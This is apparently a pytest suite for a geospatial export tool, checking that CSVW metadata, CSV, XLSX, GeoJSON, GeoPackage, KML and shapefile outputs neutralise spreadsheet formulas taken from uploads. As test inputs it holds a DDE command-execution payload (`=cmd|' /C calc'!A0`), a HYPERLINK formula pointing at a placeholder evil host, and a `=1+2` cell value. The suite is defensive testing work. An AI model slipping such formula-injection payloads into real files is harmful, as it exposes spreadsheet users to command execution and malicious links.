"""The stamp beside a CSV (W3C CSV on the Web), and nothing a file says becomes a formula (issues 9, 10).

Every carrier of the stamp is checked with a zone type and a file name taken from a hostile upload:
a zone type ``pole,=cmd|' /C calc'!A0`` (a comma, then a DDE formula) and an input named
``=HYPERLINK(…)``. No carrier may hold a key or value that a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
from defusedxml.ElementTree import fromstring as parse_xml

from geo.io import export
from geo.io.export import hash_bytes, make_stamp
from tests.test_export import NOW, make_carriers, make_summary, make_zones

ZONE_TYPE = "pole,=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.invalid/?x","点我")'
INPUT = LINK + ".geojson"


@pytest.fixture
def hostile_stamp() -> dict[str, str]:
    return make_stamp(
        input_hashes={INPUT: hash_bytes(b"x"), "zones.geojson": hash_bytes(b"z")},
        by=ZONE_TYPE,
        mode="declared",
        year=2030,
        crs="EPSG:4549",
        tool_version="1.2.3",
        now=NOW,
    )


def hostile_values(values: list[str]) -> list[str]:
    """The values carrying the hostile zone type or file name that a spreadsheet could run.

    Neutral is what table cells get: a leading apostrophe on the whole value (so that no split of
    it matters either: it is one text), or a key that starts with the stamp's own prefix.
    """
    hostile = [v for v in values if "=cmd" in v or "HYPERLINK" in v]
    return [v for v in hostile if not v.startswith(("'", export.HASH_PREFIX))]


def carriers_of_stamp(stamp: dict[str, str], tmp_path: Path) -> dict[str, list[str]]:
    """Every key and value of the stamp as each export carries it, per carrier."""
    out: dict[str, list[str]] = {}
    files = export.summary_csv_files(make_summary(), stamp, name="s.csv")
    meta = json.loads(files["s.csv-metadata.json"])

    def strings(node: object) -> list[str]:
        if isinstance(node, str):
            return [node]
        if isinstance(node, dict):
            return [s for k, v in node.items() for s in (k, *strings(v))]
        if isinstance(node, list):
            return [s for v in node for s in strings(v)]
        return []

    out["csvw"] = strings(meta)
    out["csv"] = [cell for row in csv.reader(io.StringIO(files["s.csv"].decode("utf-8-sig"))) for cell in row]
    out["json"] = strings(json.loads(export.summary_json(make_summary(), stamp))["metadata"])
    out["geojson"] = strings(json.loads(export.layers_geojson(make_carriers(), make_zones(), stamp))["metadata"])
    path = tmp_path / "x.gpkg"
    path.write_bytes(export.geopackage(make_carriers(), make_zones(), {}, stamp))
    table = pyogrio.read_dataframe(path, layer="metadata")
    out["gpkg"] = [*table["key"], *table["value"], *pyogrio.read_info(path, layer="carriers")["dataset_metadata"]]
    out["gpkg"] += list(pyogrio.read_info(path, layer="carriers")["dataset_metadata"].values())
    document = parse_xml(export.kml(make_carriers(), make_zones(), stamp))
    ns = "{http://www.opengis.net/kml/2.2}"
    data = document.findall(f"{ns}Document/{ns}ExtendedData/{ns}Data")
    out["kml"] = [d.get("name", "") for d in data] + [d.findtext(f"{ns}value") or "" for d in data]
    description = document.findtext(f"{ns}Document/{ns}description") or ""
    out["kml"] += [line.split(": ", 1)[-1] for line in description.splitlines()]
    with zipfile.ZipFile(io.BytesIO(export.shapefile_zip(make_carriers(), make_zones(), stamp))) as archive:
        out["shp README"] = [
            line.split(": ", 1)[-1] for line in archive.read("README.txt").decode("utf-8-sig").splitlines()
        ]
    return out


def test_every_stamp_carrier_neutralises_formulas(hostile_stamp: dict[str, str], tmp_path: Path) -> None:
    carried = carriers_of_stamp(hostile_stamp, tmp_path)
    for carrier, values in carried.items():
        assert any("=cmd" in v for v in values) or carrier == "csv", f"{carrier} lost the zone type"
        assert hostile_values(values) == [], carrier


def test_the_xlsx_metadata_sheet_keeps_hostile_values_as_text(hostile_stamp: dict[str, str]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(export.summary_xlsx({"pole": make_summary()}, hostile_stamp)))
    sheet = book["metadata"]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells[ZONE_TYPE].data_type == "s"
    assert cells[ZONE_TYPE].quotePrefix  # Excel's "typed with an apostrophe": stays text on edit
    key = export.HASH_PREFIX + INPUT
    assert key in cells  # exact text, never a formula cell
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_csvw_sidecar_names_every_column_and_carries_the_stamp(hostile_stamp: dict[str, str]) -> None:
    table = make_summary()
    files = export.summary_csv_files(table, hostile_stamp, name="summary_pole.csv")
    assert list(files) == ["summary_pole.csv", "summary_pole.csv-metadata.json"]
    meta = json.loads(files["summary_pole.csv-metadata.json"])  # valid JSON
    assert meta["@context"] == "http://www.w3.org/ns/csvw"
    assert meta["dc:title"] == [{"@value": "汇总表", "@language": "zh"}, {"@value": "summary table", "@language": "en"}]
    assert_common_properties_are_prefixed(meta)
    assert meta["url"] == "summary_pole.csv"
    columns = meta["tableSchema"]["columns"]
    assert [c["dc:identifier"] for c in columns] == list(table.columns)
    assert [c["name"] for c in columns] == list(table.columns)
    by_name = {c["name"]: c for c in columns}
    assert by_name["existing_m2"]["titles"] == {"zh": "现有面积（㎡）", "en": "existing (m²)"}
    assert by_name["existing_m2"]["datatype"] == "integer"
    assert by_name["far"]["datatype"] == "decimal"
    assert by_name["name_zh"]["datatype"] == "string"
    assert all(c["null"] == "" for c in columns)  # an empty cell is unknown
    assert all(c["titles"]["zh"] and c["titles"]["en"] for c in columns)
    assert meta["dc:created"]["@value"] == "2025-03-04T05:14:15Z"
    assert meta["prov:wasGeneratedBy"]["prov:wasAssociatedWith"]["dc:hasVersion"] == "1.2.3"
    used = {u["dc:identifier"] for u in meta["prov:wasGeneratedBy"]["prov:used"]}
    assert "sha256:" + hash_bytes(b"z") in used
    verbatim = export.stamp_of_csv_metadata(files["summary_pole.csv-metadata.json"])
    assert verbatim["area_crs"] == "EPSG:4549"
    assert verbatim["grouping"] == "'" + ZONE_TYPE
    read = pd.read_csv(io.BytesIO(files["summary_pole.csv"]))
    assert list(read.columns) == [c["dc:identifier"] for c in columns]


_PREFIXES = ("dc:", "prov:", "schema:", "xsd:", "rdf:", "rdfs:")
_CSVW_TERMS = {"url", "dialect", "tableSchema", "columns", "name", "titles", "datatype", "null", "primaryKey", "notes"}
_DIALECT = {"encoding", "header", "headerRowCount", "lineTerminators"}


def assert_common_properties_are_prefixed(node: object, parent: str = "") -> None:
    """CSVW: every key of a common property's value is a prefixed name or an @-keyword (no bare words)."""
    if isinstance(node, list):
        for item in node:
            assert_common_properties_are_prefixed(item, parent)
        return
    if not isinstance(node, dict):
        return
    for key, value in node.items():
        if parent == "titles" or key.startswith("@") or key.startswith(_PREFIXES):
            pass
        else:
            assert key in _CSVW_TERMS | _DIALECT, f"{key!r} under {parent!r} is neither a CSVW term nor prefixed"
        assert_common_properties_are_prefixed(value, key)


def test_csvw_zip_holds_both(hostile_stamp: dict[str, str]) -> None:
    data = export.summary_csv_zip(make_summary(), hostile_stamp, name="summary_pole.csv")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert sorted(archive.namelist()) == ["summary_pole.csv", "summary_pole.csv-metadata.json"]
        assert pd.read_csv(archive.open("summary_pole.csv"))["group_id"].iloc[-1] == "__total__"
    assert export.EXPORT_FORMATS["csvw"].suffix == ".zip"


def test_csvw_names_odd_columns_safely() -> None:
    table = pd.DataFrame({"行号": [1], "_x": ["a"], "a b": [True]})
    meta = json.loads(export.csv_metadata(table, {}, url="r.csv"))
    names = [c["name"] for c in meta["tableSchema"]["columns"]]
    assert all(re.fullmatch(r"[A-Za-z0-9%][A-Za-z0-9_%]*", n) for n in names), names
    assert [c["titles"]["zh"] for c in meta["tableSchema"]["columns"]] == ["行号", "_x", "a b"]
    assert meta["tableSchema"]["columns"][2]["datatype"] == "boolean"


def test_geojson_stamp_names_the_area_crs_not_crs(hostile_stamp: dict[str, str]) -> None:
    collection = json.loads(export.layers_geojson(make_carriers(), make_zones(), hostile_stamp))
    assert collection["metadata"]["area_crs"] == "EPSG:4549"
    assert collection["metadata"]["file_crs"] == "EPSG:4326"
    assert "crs" not in collection["metadata"]
    assert "crs" not in collection


def test_far_two_decimals_and_never_minus_zero(hostile_stamp: dict[str, str], tmp_path: Path) -> None:
    table = make_summary()
    table["far"] = [1.0833333333333333, -0.0, -1e-12, 499.42691029900334]
    csv_text = export.summary_csv(table).decode("utf-8-sig")
    assert ",1.08," in csv_text
    assert ",499.43," in csv_text
    assert "-0.0" not in csv_text
    assert [r["far"] for r in export.summary_records(table)] == [1.08, 0.0, 0.0, 499.43]
    assert "-0.0" not in export.summary_json(table).decode()
    book = openpyxl.load_workbook(io.BytesIO(export.summary_xlsx({"pole": table}, hostile_stamp)))
    at = list(table.columns).index("far")
    values = [row[at] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert values == [1.08, 0.0, 0.0, 499.43]
    assert all(not (isinstance(v, float) and np.signbit(v)) for v in values)
    path = tmp_path / "x.gpkg"
    path.write_bytes(export.geopackage(make_carriers(), make_zones(), {"pole": table}, hostile_stamp))
    assert pyogrio.read_dataframe(path, layer="summary_pole")["far"].tolist() == [1.08, 0.0, 0.0, 499.43]


def test_the_field_table_is_the_one_place_for_codes() -> None:
    codes = export.field_codes("carriers")
    assert all(len(code) <= 10 and code.isascii() for code in codes.values())
    for field, code in codes.items():
        assert export.field_for_code(code, "carriers") == field
        assert export.field_for_code(code.lower(), "carriers") == field
    assert export.field_for_code("NOPE") is None
    zones = gpd.GeoDataFrame({"id": ["z"]}, geometry=[None], crs="EPSG:4326")
    assert zones.crs is not None


def test_plain_pandas_reads_every_csv_the_project_writes(hostile_stamp: dict[str, str]) -> None:
    from geo.io import reader  # noqa: PLC0415

    written = {"summary": export.summary_csv(make_summary())}
    with zipfile.ZipFile(io.BytesIO(export.shapefile_zip(make_carriers(), make_zones(), hostile_stamp))) as archive:
        written["fields.csv"] = archive.read("fields.csv")
    upload = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"id": "=1+2", "名称": "3#楼"},
                "geometry": {"type": "Point", "coordinates": [121.4, 31.2]},
            },
            {
                "type": "Feature",
                "properties": {"id": "ok", "名称": "甲"},
                "geometry": {
                    "type": "Polygon",
                    "coordinates": [[[121.4, 31.2], [121.41, 31.2], [121.41, 31.21], [121.4, 31.2]]],
                },
            },
        ],
    }
    result = reader.read(json.dumps(upload).encode(), "=HYPERLINK(1).geojson")
    written["rejected rows"] = result.rejected_csv()
    for what, data in written.items():
        frame = pd.read_csv(io.BytesIO(data))  # no options
        assert len(frame.columns) > 1, what
        assert not any(str(c).startswith("#") for c in frame.columns), what
    rejected = pd.read_csv(io.BytesIO(written["rejected rows"]))
    assert "HYPERLINK" not in written["rejected rows"].decode("utf-8-sig")  # the file name is not in the CSV
    assert rejected["id"].tolist() == ["'=1+2"]


def test_an_export_refusal_says_why_in_both_languages() -> None:
    with pytest.raises(export.ExportError) as caught:
        make_stamp(input_hashes={"a.geojson": "abc+def"}, by="pole", mode="declared", year=None, crs="EPSG:4549")
    assert "sha256" in str(caught.value)
    assert "校验值" in caught.value.text("zh")
    assert caught.value.message.en == str(caught.value)
